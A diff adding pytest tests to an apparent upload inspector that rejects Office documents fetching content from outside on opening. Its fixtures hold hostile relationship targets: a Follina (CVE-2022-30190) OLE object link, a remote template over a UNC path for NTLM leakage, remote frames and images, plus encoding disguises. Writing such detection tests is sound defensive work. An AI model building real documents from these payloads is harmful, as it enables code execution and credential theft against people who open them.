@@ -45,3 +45,61 @@ def test_a_pdf_that_opens_at_a_page_is_taken(tmp_path: Path) -> None:
     path.write_bytes(files.pdf(action=_action("/GoTo", D="chapter-1")))
 
     assert inspect(path).content_type == "application/pdf"
+
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _rels(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
+        "</Relationships>"
+    ).encode()
+
+
+@pytest.mark.parametrize(
+    ("part", "kind", "target"),
+    [
+        # Follina (CVE-2022-30190): an external OLE object's HTML runs ms-msdt on opening.
+        ("word/_rels/document.xml.rels", "oleObject", "http://203.0.113.9/x.html!"),
+        # A remote template, fetched as Word opens the file (template injection, NTLM leak).
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\203.0.113.9\\t\\x.dotm"),
+        ("word/_rels/document.xml.rels", "image", "http://tracker.example/pixel.png"),
+        ("word/_rels/webSettings.xml.rels", "frame", "http://203.0.113.9/frame.docx"),
+    ],
+    ids=["ole-object", "attached-template", "image", "frame"],
+)
+def test_an_office_document_that_fetches_from_outside_on_opening_is_refused(
+    tmp_path: Path, part: str, kind: str, target: str
+) -> None:
+    path = tmp_path / "upload.docx"
+    path.write_bytes(files.docx((part, _rels(kind, target))))
+
+    with pytest.raises(EvidenceRefused, match="outside"):
+        inspect(path)
+
+
+def test_an_office_document_with_web_links_or_its_own_parts_is_taken(tmp_path: Path) -> None:
+    path = tmp_path / "upload.docx"
+    links = _rels("hyperlink", "https://example.org/report")
+    inside = _rels("image", "media/image1.png", mode="")
+    path.write_bytes(
+        files.docx(("word/_rels/document.xml.rels", links), ("word/_rels/footer1.xml.rels", inside))
+    )
+
+    assert inspect(path).extension == "docx"
+
+
+@pytest.mark.parametrize("disguise", ["character references", "utf-16"])
+def test_an_external_relationship_in_disguise_is_refused(tmp_path: Path, disguise: str) -> None:
+    """Office resolves character references and reads UTF-16 parts: so does the check."""
+    rels = _rels("oleObject", "http://203.0.113.9/x.html!", mode='TargetMode="Extern&#97;l"')
+    if disguise == "utf-16":
+        rels = _rels("oleObject", "http://203.0.113.9/x.html!").decode().encode("utf-16")
+    path = tmp_path / "upload.docx"
+    path.write_bytes(files.docx(("word/_rels/document.xml.rels", rels)))
+
+    with pytest.raises(EvidenceRefused, match="outside"):
+        inspect(path)
